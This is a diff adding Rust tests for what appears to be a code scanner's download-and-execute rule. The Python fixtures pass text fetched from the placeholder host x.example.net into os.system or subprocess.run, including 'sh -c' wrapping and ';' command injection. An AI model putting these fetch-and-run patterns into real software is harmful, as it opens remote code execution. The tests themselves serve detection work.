@@ -137,3 +137,37 @@ fn recursion_and_objects_within_themselves_end() {
                 requests.post('https://x.example.net', json=[f(box), box, A(box).b])\n";
     assert!(findings(&[("a.py", text)]).iter().all(|finding| finding.rule != "AL-CODE-scanner-fault"));
 }
+
+/// A module that starts what it is given, and one that gives it something.
+fn started_by_another(run: &str, call: &str) -> bool {
+    let run = format!("import os\nimport subprocess\n\ndef run(command):\n{run}\n");
+    let call = format!(
+        "import requests\nfrom .run import run\n\ndef main():\n    \
+         text = requests.get('https://x.example.net').text\n    {call}\n"
+    );
+    let files = [("p/__init__.py", ""), ("p/run.py", run.as_str()), ("p/main.py", call.as_str())];
+    !ways(&files, "AL-FLOW-download-execute").is_empty()
+}
+
+#[test]
+fn what_another_module_starts_is_told_by_what_it_is_given() {
+    let (line, words) = ("    os.system(command)", "    subprocess.run(command)");
+    for (run, call) in [(line, "run('git clone ' + text)"), (words, "run(['git', 'clone', text])")] {
+        assert!(!started_by_another(run, call), "{run} {call}");
+    }
+    for (run, call) in [
+        (line, "run(text)"),
+        (line, "run('sh -c ' + text)"),
+        (line, "run('git clone; ' + text)"),
+        ("    os.system('sudo ' + command)", "run('git clone ' + text)"),
+        ("    command = 'sh -c ' + command\n    os.system(command)", "run('git clone ' + text)"),
+        (words, "run(text)"),
+        (words, "run([text])"),
+        (words, "run(['sh', '-c', text])"),
+        ("    command.insert(0, 'sh')\n    subprocess.run(command)", "run(['-c', text])"),
+        ("    change(command)\n    subprocess.run(command)", "run(['-c', text])"),
+        ("    subprocess.run(['sh'] + command)", "run(['-c', text])"),
+    ] {
+        assert!(started_by_another(run, call), "{run} {call}");
+    }
+}
